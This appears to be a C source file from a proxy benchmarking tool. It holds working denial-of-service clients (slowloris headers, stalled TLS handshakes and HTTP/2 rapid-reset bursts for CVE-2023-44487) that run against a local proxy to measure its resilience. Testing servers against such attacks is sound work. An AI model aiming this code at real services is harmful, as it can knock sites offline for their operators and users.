/* Hostile clients beside the traffic, which differ with what it speaks:
 *   HTTP/1.1   slow heads (slowloris): a request is begun and never ended, with a byte every ten seconds
 *   TLS        the same with handshakes: a ClientHello that never ends
 *   HTTP/2     rapid resets (CVE-2023-44487): every tenth of a second a hundred requests, each reset at once
 *
 * They are no part of what is counted. One that the proxy has closed is opened again when its next turn comes, as an attacker would.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>

#include "load.h"

enum { MAX_SLOW = 16384, SLOW_SOURCES = 64, GROUP = 64, RESETS = 100 };

static const char head[] = "GET /slow HTTP/1.1\r\nHost: bench.example\r\nUser-Agent: bench-peers/1\r\nX-Slow: ";

/* The beginning of a record of 512 bytes with a ClientHello of TLS 1.2 or later. */
static const uint8_t hello[] = { 22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3 };

static const uint8_t preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0";

static struct conn *slow[MAX_SLOW];
static uint32_t generations[MAX_SLOW];
static uint32_t next_stream[MAX_SLOW];
static int begun;                        /* that were connected since slow_start, and sent their opening or were closed before they could */
static int slow_count;
static struct traffic beside;
static uint64_t turn_every_ns, next_turn, turn_index;

static bool is_open(int at)
{
    return slow[at] != NULL && slow[at]->role == SLOW && slow[at]->generation == generations[at];
}

/* A hundred requests for a byte, and their resets. */
static bool send_resets(int at)
{
    static uint8_t batch[RESETS * (9 + 18 + 9 + 4)];
    static const uint8_t fields[18] = "\x82\x86\x04\x04/1/0\x01\x08" "bench.ex";
    uint8_t *to = batch;
    for (int i = 0; i < RESETS; i++, next_stream[at] += 2) {
        const uint8_t id[4] = { (uint8_t)(next_stream[at] >> 24), (uint8_t)(next_stream[at] >> 16), (uint8_t)(next_stream[at] >> 8), (uint8_t)next_stream[at] };
        memcpy(to, (const uint8_t[]){ 0, 0, sizeof fields, 1, 5 }, 5);
        memcpy(to + 5, id, 4);
        memcpy(to + 9, fields, sizeof fields);
        to += 9 + sizeof fields;
        memcpy(to, (const uint8_t[]){ 0, 0, 4, 3, 0 }, 5);
        memcpy(to + 5, id, 4);
        memcpy(to + 9, (const uint8_t[]){ 0, 0, 0, 8 }, 4);
        to += 13;
    }
    return send(slow[at]->fd, batch, sizeof batch, MSG_NOSIGNAL) == (ssize_t)sizeof batch;
}

static bool send_opening(const struct conn *c)
{
    const void *opening = beside.tls ? (const void *)hello : beside.http2 ? (const void *)preface : (const void *)head;
    size_t length = beside.tls ? sizeof hello : beside.http2 ? sizeof preface - 1 : sizeof head - 1;
    return send(c->fd, opening, length, MSG_NOSIGNAL) == (ssize_t)length;
}

/* What one does at its turn: false where its connection is not what it was. */
static bool act(int at)
{
    if (beside.http2)
        return send_resets(at);
    send(slow[at]->fd, "x", 1, MSG_NOSIGNAL);
    return true;
}

static void slow_dial(int at)
{
    struct sockaddr_in source = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f000201u + (uint32_t)at % SLOW_SOURCES) };
    struct sockaddr_in target = { .sin_family = AF_INET, .sin_port = htons(beside.port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    int on = 1, fd = tcp_socket();
    slow[at] = NULL;
    next_stream[at] = 1;
    if (fd < 0) {
        clients_tell_error("the slow clients ran out of descriptors: raise ulimit -n");
        return;
    }
    struct conn *c = conn_claim(fd, SLOW);
    setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof on);
    errno = 0;
    if (bind(fd, (struct sockaddr *)&source, sizeof source) != 0
        || (connect(fd, (struct sockaddr *)&target, sizeof target) != 0 && errno != EINPROGRESS)) {
        clients_tell_error("a slow client could not connect");
        conn_close(c);
        return;
    }
    conn_watch(c, EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET);
    slow[at] = c;
    generations[at] = c->generation;
}

/* Opens them; when it returns true, all have begun. A proxy with a bound may have closed some of them by then. */
bool slow_start(const struct traffic *t)
{
    beside = *t;
    slow_count = begun = 0;
    next_turn = turn_index = 0;
    turn_every_ns = beside.http2 ? 100000000u : 10000000000u;
    uint64_t deadline = monotonic_ns() + 10000000000u;
    while (slow_count < t->slow && slow_count < MAX_SLOW) {
        for (int i = 0; i < GROUP && slow_count < t->slow && slow_count < MAX_SLOW; i++)
            slow_dial(slow_count++);
        while (begun < slow_count && monotonic_ns() < deadline && !clients_error())
            turn(10);
        if (begun < slow_count) {
            clients_tell_error("not every hostile client could begin");
            return false;
        }
    }
    return true;
}

/* Does what is due, and opens again what was closed. */
void slow_work(uint64_t at)
{
    if (slow_count == 0)
        return;
    if (next_turn == 0)
        next_turn = at;
    for (; next_turn <= at; next_turn += turn_every_ns / (uint64_t)slow_count) {
        int i = (int)(turn_index++ % (uint64_t)slow_count);
        if (!is_open(i))
            slow_dial(i);
        else if (slow[i]->up && !act(i))
            conn_close(slow[i]);
    }
}

void slow_event(struct conn *c, uint32_t events)
{
    static uint8_t ignored[65536];
    if (events & (EPOLLRDHUP | EPOLLHUP | EPOLLERR) || ((events & EPOLLIN) && !beside.http2)) {
        int error = 0;
        socklen_t length = sizeof error;
        if (!c->up && getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &error, &length) == 0 && error != ECONNREFUSED)
            begun++;
        conn_close(c);
        return;
    }
    while ((events & EPOLLIN) && recv(c->fd, ignored, sizeof ignored, 0) > 0)
        ;
    if (!c->up && (events & EPOLLOUT)) {
        c->up = send_opening(c);
        if (c->up)
            begun++;
        else
            conn_close(c);
    }
}

void slow_close(void)
{
    for (int i = 0; i < slow_count; i++)
        if (is_open(i))
            conn_close(slow[i]);
    slow_count = 0;
}
